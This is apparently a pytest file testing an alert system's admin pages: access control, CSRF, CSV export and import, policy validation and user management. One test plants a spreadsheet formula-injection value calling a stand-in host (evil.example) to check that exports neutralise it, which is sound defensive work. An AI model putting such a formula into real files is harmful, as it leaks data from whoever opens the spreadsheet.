"""The admin pages over HTTP: admins only, CSRF, CSV round trips, whole-or-nothing imports, policies."""

from __future__ import annotations

import csv
import io
import logging
import re
from datetime import timedelta

import pytest
from sqlalchemy import func, select

from alerts.admin import InvalidPolicy, check_policy_steps
from alerts.auth import create_user
from alerts.models import EscalationPolicy, FocalPoint, Place, Responder, User, Zone
from alerts.states import FocalPointStatus
from tests import factories
from tests.alerts.test_pages import PASSWORD, login, token
from tests.alerts.test_pipeline import PLACES
from tests.conftest import T0

KINDS = ("focal-points", "responders", "zones", "places")
HEADERS = {
    "focal-points": "name,phone,lat,lon,zone,language",
    "responders": "name,phone,tier,zones,language",
    "zones": "name,lat,lon,radius_km",
    "places": "name,lat,lon,admin1,admin2,alt_names",
}
GET_ROUTES = [
    "/admin/",
    "/admin/focal-points",
    "/admin/responders",
    "/admin/zones",
    "/admin/places",
    "/admin/policies",
    "/admin/policies/1",
    "/admin/users",
    *(f"/admin/{kind}.csv" for kind in KINDS),
]
POST_ROUTES = [
    "/admin/focal-points/1/status",
    "/admin/responders/1/active",
    "/admin/zones/1",
    "/admin/policies/1",
    "/admin/policies/new",
    "/admin/policies/1/delete",
    "/admin/users",
    "/admin/users/1/unlock",
    "/admin/users/1/delete",
    *(f"/admin/{kind}/import" for kind in KINDS),
]


@pytest.fixture
def net(session):
    """A zone with responders (one of tier 3 with no zone), two focal points (one pending), places, users."""
    built = factories.network(session)
    built["beni"] = factories.zone(session, "Beni", 0.49, 29.47, 40)
    built["both"] = factories.responder(session, 2, [built["zone"], built["beni"]], name="Two Zones")
    built["pending"] = factories.focal_point(
        session, built["beni"], 0.5, 29.4, name="Nouveau", status=FocalPointStatus.PENDING
    )
    for name, lat, lon, alt in PLACES:
        session.add(Place(name=name, lat=lat, lon=lon, admin1="Nord-Kivu", admin2="Masisi", alt_names=alt))
    session.commit()
    built["users"] = {}
    for name, role, responder in (
        ("admin", "admin", None),
        ("coord", "coordinator", None),
        ("duty", "responder", built["tier1"][0]),
    ):
        user, _ = create_user(
            session, name, role, PASSWORD, responder_id=responder.id if responder else None, language="en"
        )
        built["users"][name] = user.id
    return built


@pytest.fixture
def admin(client, net):
    """The client logged in as an admin, with the form token of its session."""
    assert login(client, "admin").status_code == 302
    return token(client, "/admin/")


def _fresh(session):
    session.expire_all()
    session.rollback()
    return session


def _upload(client, csrf, kind, text, name="upload.csv"):
    data = text.encode("utf-8") if isinstance(text, str) else text
    return client.post(
        f"/admin/{kind}/import",
        data={"csrf_token": csrf, "file": (io.BytesIO(data), name)},
        content_type="multipart/form-data",
    )


# ---- Who may come in ----


@pytest.mark.parametrize("user", ["coord", "duty"])
def test_every_admin_route_refuses_coordinators_and_responders(client, net, session, user):
    login(client, user)
    csrf = token(client, "/")
    for path in GET_ROUTES:
        assert client.get(path).status_code == 403, path
    for path in POST_ROUTES:
        assert client.post(path, data={"csrf_token": csrf}).status_code == 403, path
    assert _fresh(session).scalar(select(func.count(User.id))) == 3
    assert session.get(FocalPoint, net["pending"].id).status == FocalPointStatus.PENDING


def test_every_admin_route_sends_anonymous_visitors_to_the_login(client, net):
    csrf = token(client)
    for path in GET_ROUTES:
        response = client.get(path)
        assert response.status_code == 302, path
        assert response.headers["Location"].startswith("/login"), path
    for path in POST_ROUTES:
        response = client.post(path, data={"csrf_token": csrf})
        assert response.status_code == 302, path
        assert response.headers["Location"].startswith("/login"), path


def test_an_admin_sees_every_section_and_the_nav_links_to_it(client, admin):
    for path in GET_ROUTES:
        assert client.get(path).status_code == 200, path
    assert 'href="/admin/"' in client.get("/").get_data(as_text=True)


def test_a_form_without_its_csrf_token_is_refused(client, admin, net, session):
    pending = net["pending"].id
    response = client.post(f"/admin/focal-points/{pending}/status", data={"action": "approve"})
    assert response.status_code == 400
    assert _fresh(session).get(FocalPoint, pending).status == FocalPointStatus.PENDING
    assert (
        _upload(client, "stale", "zones", "name,lat,lon,radius_km\nGoma,-1.68,29.22,30\n").status_code == 400
    )
    assert session.scalar(select(Zone).where(Zone.name == "Goma")) is None


# ---- CSV out and back in ----


@pytest.mark.parametrize("kind", KINDS)
def test_an_export_imported_back_changes_nothing(client, admin, kind):
    exported = client.get(f"/admin/{kind}.csv")
    assert exported.mimetype == "text/csv"
    header, *rows = exported.get_data(as_text=True).splitlines()
    assert header == HEADERS[kind]
    assert rows
    response = _upload(client, admin, kind, exported.get_data(as_text=True))
    assert response.status_code == 302
    page = client.get(response.headers["Location"]).get_data(as_text=True)
    assert f"Imported: 0 created, 0 updated, {len(rows)} unchanged" in page
    assert client.get(f"/admin/{kind}.csv").data == exported.data


def test_a_name_a_spreadsheet_would_run_is_exported_as_text_and_imports_back_unchanged(
    client, admin, net, session
):
    hostile = '=HYPERLINK("http://evil.example/"&A1,"Zone")'  # e.g. sent in a REGISTER SMS
    session.get(FocalPoint, net["pending"].id).name = hostile
    session.add(Place(name="@SUM(1+1)", lat=-1.2, lon=28.9, admin1="-Nord", admin2="+x", alt_names=""))
    session.commit()

    focal_points = client.get("/admin/focal-points.csv").get_data(as_text=True)
    places = client.get("/admin/places.csv").get_data(as_text=True)

    row = next(r for r in csv.reader(io.StringIO(focal_points)) if r[1] == net["pending"].phone)
    assert row[0] == "'" + hostile
    assert row[1].startswith("+243")  # a phone number is not a formula: left as it is
    assert ["'@SUM(1+1)", "-1.2", "28.9", "'-Nord", "'+x", ""] in list(csv.reader(io.StringIO(places)))
    for kind, exported in (("focal-points", focal_points), ("places", places)):
        response = _upload(client, admin, kind, exported)
        page = client.get(response.headers["Location"]).get_data(as_text=True)
        assert "0 created, 0 updated" in page  # the apostrophes are taken off: nothing changed
    assert _fresh(session).get(FocalPoint, net["pending"].id).name == hostile


def test_the_exports_hold_the_full_numbers_and_zones_in_the_import_format(client, admin, net):
    focal_points = client.get("/admin/focal-points.csv").get_data(as_text=True)
    assert f"Nouveau,{net['pending'].phone},0.5,29.4,Beni,fr" in focal_points
    responders = client.get("/admin/responders.csv").get_data(as_text=True)
    assert f"Two Zones,{net['both'].phone},2,Beni|Masisi,fr" in responders
    places = client.get("/admin/places.csv").get_data(as_text=True)
    assert "Kitchanga,-1.18,28.92,Nord-Kivu,Masisi,Kitshanga|Kichanga" in places


def test_tier_3_responders_without_zones_are_exported_and_import_back_unchanged(client, admin, net):
    responders = client.get("/admin/responders.csv").get_data(as_text=True)
    row = next(line for line in responders.splitlines() if net["tier3"][0].phone in line)
    assert row.split(",")[2:4] == ["3", ""]
    page = client.get("/admin/responders").get_data(as_text=True)
    assert "Left out of the export" not in page


def test_an_import_creates_and_updates_and_says_how_many(client, admin, session):
    text = "name,lat,lon,radius_km\nMasisi,-1.4,28.8167,50\nGoma,-1.6792,29.2228,30\n"
    response = _upload(client, admin, "zones", text)
    assert "Imported: 1 created, 1 updated, 0 unchanged" in client.get(response.headers["Location"]).get_data(
        as_text=True
    )
    assert _fresh(session).scalar(select(Zone.radius_km).where(Zone.name == "Masisi")) == 50


def test_a_bad_file_shows_every_bad_line_and_imports_nothing(client, admin, session):
    before = session.scalar(select(func.count(FocalPoint.id)))
    text = (
        "name,phone,lat,lon,zone,language\n"
        "Good,+243810000901,-1.2,28.9,Masisi,fr\n"
        "Bad phone,12,-1.2,28.9,Masisi,fr\n"
        "Lost,+243810000902,-1.2,28.9,Nowhere,fr\n"
    )
    response = _upload(client, admin, "focal-points", text)
    assert response.status_code == 400
    page = response.get_data(as_text=True)
    assert "Nothing was imported" in page
    assert "line 3: phone" in page
    assert "line 4: zone &#39;Nowhere&#39; does not exist" in page
    assert _fresh(session).scalar(select(func.count(FocalPoint.id))) == before
    assert session.scalar(select(FocalPoint).where(FocalPoint.name == "Good")) is None


@pytest.mark.parametrize(
    ("upload", "message"),
    [
        (b"name,lat,lon\nGoma,-1.6,29.2\n", "line 1: missing column(s) radius_km"),
        (b"name,lat,lon,radius_km\nG\xf4ma,-1.6,29.2,30\n", "the file is not UTF-8 text"),
    ],
)
def test_a_file_of_the_wrong_shape_is_refused_with_a_clear_reason(client, admin, session, upload, message):
    response = _upload(client, admin, "zones", upload)
    assert response.status_code == 400
    assert message in response.get_data(as_text=True)
    assert _fresh(session).scalar(select(func.count(Zone.id))) == 2


def test_an_upload_without_a_file_asks_for_one(client, admin):
    response = client.post("/admin/places/import", data={"csrf_token": admin})
    assert response.status_code == 302
    assert "Choose a CSV file first." in client.get(response.headers["Location"]).get_data(as_text=True)


def test_admins_may_upload_a_gazetteer_larger_than_a_webhook(client, admin, session):
    lines = [f"Village {n},{-1 - n / 10000:.4f},28.9,Nord-Kivu,Masisi,Kijiji {n}" for n in range(2000)]
    text = "name,lat,lon,admin1,admin2,alt_names\n" + "\n".join(lines) + "\n"
    assert len(text) > 64 * 1024
    assert _upload(client, admin, "places", text).status_code == 302
    assert _fresh(session).scalar(select(func.count(Place.id))) == len(PLACES) + 2000


def test_an_unknown_kind_of_csv_is_not_found(client, admin):
    assert client.get("/admin/incidents.csv").status_code == 404


# ---- Focal points, responders, zones ----


def test_an_admin_approves_then_rejects_a_pending_focal_point_and_it_is_logged_without_its_number(
    client, admin, net, session, caplog
):
    pending = net["pending"]
    url = f"/admin/focal-points/{pending.id}/status"
    caplog.set_level(logging.INFO)
    assert client.post(url, data={"csrf_token": admin, "action": "approve"}).status_code == 302
    assert _fresh(session).get(FocalPoint, pending.id).status == FocalPointStatus.ACTIVE
    client.post(url, data={"csrf_token": admin, "action": "reject"})
    assert _fresh(session).get(FocalPoint, pending.id).status == FocalPointStatus.REJECTED
    messages = [r.getMessage() for r in caplog.records]
    assert f"admin admin changed focal point {pending.id} status to active" in messages
    assert f"admin admin changed focal point {pending.id} status to rejected" in messages
    assert not any(pending.phone[4:] in m for m in messages)


def test_an_unknown_status_action_is_refused(client, admin, net, session):
    url = f"/admin/focal-points/{net['pending'].id}/status"
    assert client.post(url, data={"csrf_token": admin, "action": "delete"}).status_code == 400
    assert _fresh(session).get(FocalPoint, net["pending"].id).status == FocalPointStatus.PENDING


def test_the_focal_point_list_filters_by_status_and_shows_full_numbers_to_admins(client, admin, net):
    page = client.get("/admin/focal-points?status=pending").get_data(as_text=True)
    assert net["pending"].phone in page
    assert net["focal_point"].phone not in page


def test_deactivating_a_responder_twice_leaves_it_inactive(client, admin, net, session):
    responder = net["tier1"][1]
    for _ in range(2):
        client.post(f"/admin/responders/{responder.id}/active", data={"csrf_token": admin, "active": "0"})
    assert _fresh(session).get(Responder, responder.id).active is False
    client.post(f"/admin/responders/{responder.id}/active", data={"csrf_token": admin, "active": "1"})
    assert _fresh(session).get(Responder, responder.id).active is True


@pytest.mark.parametrize(
    ("distance", "window", "status"),
    [("5", "120", 302), ("0", "120", 400), ("nan", "120", 400), ("5", "1.5", 400), ("5", "99999", 400)],
)
def test_a_zones_deduplication_is_edited_within_bounds(client, admin, net, session, distance, window, status):
    zone = net["zone"]
    response = client.post(
        f"/admin/zones/{zone.id}",
        data={"csrf_token": admin, "dedup_distance_km": distance, "dedup_window_minutes": window},
    )
    assert response.status_code == status
    saved = _fresh(session).get(Zone, zone.id)
    expected = (5.0, 120) if status == 302 else (10.0, 360)
    assert (saved.dedup_distance_km, saved.dedup_window_minutes) == expected


# ---- Escalation policies ----


@pytest.mark.parametrize(
    ("text", "error"),
    [
        ("[{", "not valid JSON"),
        ("[]", "at least one step"),
        ('{"tier": 1}', "at least one step"),
        ("[1]", "step 1: must be an object"),
        ('[{"after_minutes": 0}]', "step 1: tier is missing"),
        ('[{"tier": 4}]', "step 1: tier must be 1, 2 or 3"),
        ('[{"tier": 1}, {"tier": "2"}]', "step 2: tier must be a whole number"),
        ('[{"tier": 1, "after_minutes": 1.5}]', "step 1: after_minutes must be a whole number"),
        ('[{"tier": 1, "quorum": true}]', "step 1: quorum must be a whole number"),
        ('[{"tier": 1, "after_minutes": -5}]', "step 1: after_minutes must be between 0 and"),
        ('[{"tier": 1, "quorum": 0}]', "step 1: quorum must be between 1 and"),
        ('[{"tier": 1, "repeat_times": 1000, "repeat_every_minutes": 1}]', "repeat_times must be between"),
        ('[{"tier": 1, "repeat_times": 2}]', "repeats need repeat_every_minutes above 0"),
        ('[{"tier": 1, "delay": 5}]', "step 1: unknown field(s) delay"),
    ],
)
def test_policy_steps_that_cannot_run_are_refused_with_the_reason(text, error):
    with pytest.raises(InvalidPolicy, match=re.escape(error)):
        check_policy_steps(text)


def test_policy_steps_are_completed_with_their_defaults():
    assert check_policy_steps('[{"tier": 2, "after_minutes": 30}]') == [
        {"after_minutes": 30, "tier": 2, "repeat_every_minutes": 0, "repeat_times": 0, "quorum": 1}
    ]


def _default_policy(session, severity="critical"):
    return session.scalar(
        select(EscalationPolicy).where(
            EscalationPolicy.zone_id.is_(None), EscalationPolicy.severity == severity
        )
    )


@pytest.mark.parametrize(
    ("steps", "error"), [("[{", "not valid JSON"), ('[{"tier": 9}]', "tier must be 1, 2")]
)
def test_an_invalid_policy_edit_is_refused_and_nothing_is_saved(client, admin, session, steps, error):
    policy = _default_policy(session)
    before = policy.steps
    response = client.post(f"/admin/policies/{policy.id}", data={"csrf_token": admin, "steps": steps})
    assert response.status_code == 400
    page = response.get_data(as_text=True)
    assert error in page
    assert steps.replace('"', "&#34;") in page  # what the admin typed is kept to be corrected
    assert _default_policy(_fresh(session)).steps == before


def test_a_valid_policy_edit_is_saved(client, admin, session):
    policy = _default_policy(session)
    steps = '[{"tier": 1, "repeat_every_minutes": 10, "repeat_times": 1}, {"tier": 3, "after_minutes": 20}]'
    response = client.post(f"/admin/policies/{policy.id}", data={"csrf_token": admin, "steps": steps})
    assert response.status_code == 302
    saved = _default_policy(_fresh(session)).steps
    assert [(s["tier"], s["after_minutes"], s["repeat_times"]) for s in saved] == [(1, 0, 1), (3, 20, 0)]


def test_a_zone_policy_starts_as_a_copy_of_the_default_and_can_be_deleted_again(client, admin, net, session):
    form = {"csrf_token": admin, "zone_id": net["beni"].id, "severity": "high"}
    response = client.post("/admin/policies/new", data=form)
    assert response.status_code == 302
    created = _fresh(session).scalar(
        select(EscalationPolicy).where(EscalationPolicy.zone_id == net["beni"].id)
    )
    assert created.severity == "high"
    assert created.steps == _default_policy(session, "high").steps
    assert "Beni" in client.get("/admin/policies").get_data(as_text=True)
    again = client.post("/admin/policies/new", data=form)
    assert again.status_code == 400
    assert "already has a high policy" in again.get_data(as_text=True)
    created_id = created.id
    client.post(f"/admin/policies/{created_id}/delete", data={"csrf_token": admin})
    assert _fresh(session).get(EscalationPolicy, created_id) is None


def test_a_default_policy_cannot_be_deleted(client, admin, session):
    policy = _default_policy(session)
    response = client.post(f"/admin/policies/{policy.id}/delete", data={"csrf_token": admin})
    assert response.status_code == 400
    assert _fresh(session).get(EscalationPolicy, policy.id) is not None


# ---- Users ----


def test_a_new_login_shows_its_password_once_and_the_password_works(client, admin, app):
    response = client.post(
        "/admin/users",
        data={"csrf_token": admin, "username": "alice", "role": "coordinator", "language": "en"},
    )
    assert response.status_code == 200
    password = re.search(r'<code id="password">([^<]+)</code>', response.get_data(as_text=True)).group(1)
    assert password not in client.get("/admin/users").get_data(as_text=True)
    other = app.test_client()
    assert login(other, "alice", password).status_code == 302
    assert other.get("/").status_code == 200


@pytest.mark.parametrize(
    ("form", "error"),
    [
        ({"username": "duty", "role": "coordinator"}, "user duty exists already"),
        ({"username": "bob", "role": "responder"}, "a responder login needs the responder"),
        ({"username": "bob", "role": "root"}, "role must be one of"),
        ({"username": "two words", "role": "coordinator"}, "without spaces"),
    ],
)
def test_a_login_that_cannot_be_created_is_refused(client, admin, session, form, error):
    response = client.post("/admin/users", data={"csrf_token": admin, **form})
    assert response.status_code == 400
    assert error in response.get_data(as_text=True)
    assert _fresh(session).scalar(select(func.count(User.id))) == 3


def test_a_responder_login_is_linked_to_its_responder(client, admin, net, session):
    responder = net["both"]
    client.post(
        "/admin/users",
        data={"csrf_token": admin, "username": "lead", "role": "responder", "responder_id": responder.id},
    )
    assert _fresh(session).scalar(select(User.responder_id).where(User.username == "lead")) == responder.id
    assert "Two Zones" in client.get("/admin/users").get_data(as_text=True)


def test_unlocking_a_locked_account_lets_its_owner_log_in(client, admin, net, session, app):
    coord = net["users"]["coord"]
    user = session.get(User, coord)
    user.locked_until = T0 + timedelta(days=3650)
    user.failed_logins = 3
    session.commit()
    other = app.test_client()
    assert login(other, "coord").status_code == 401
    assert "Unlock" in client.get("/admin/users").get_data(as_text=True)
    assert client.post(f"/admin/users/{coord}/unlock", data={"csrf_token": admin}).status_code == 302
    unlocked = _fresh(session).get(User, coord)
    assert (unlocked.locked_until, unlocked.failed_logins) == (None, 0)
    assert login(other, "coord").status_code == 302


def test_an_admin_cannot_delete_themselves_but_can_delete_another_login(client, admin, net, session):
    me = net["users"]["admin"]
    response = client.post(f"/admin/users/{me}/delete", data={"csrf_token": admin})
    assert response.status_code == 400
    assert "you cannot delete yourself" in response.get_data(as_text=True)
    assert _fresh(session).get(User, me) is not None
    client.post(f"/admin/users/{net['users']['coord']}/delete", data={"csrf_token": admin})
    assert _fresh(session).get(User, net["users"]["coord"]) is None


def test_the_admin_pages_speak_french(client, admin):
    client.post("/language", data={"csrf_token": admin, "language": "fr", "next": "/admin/"})
    page = client.get("/admin/users").get_data(as_text=True)
    assert "Créer un identifiant" in page
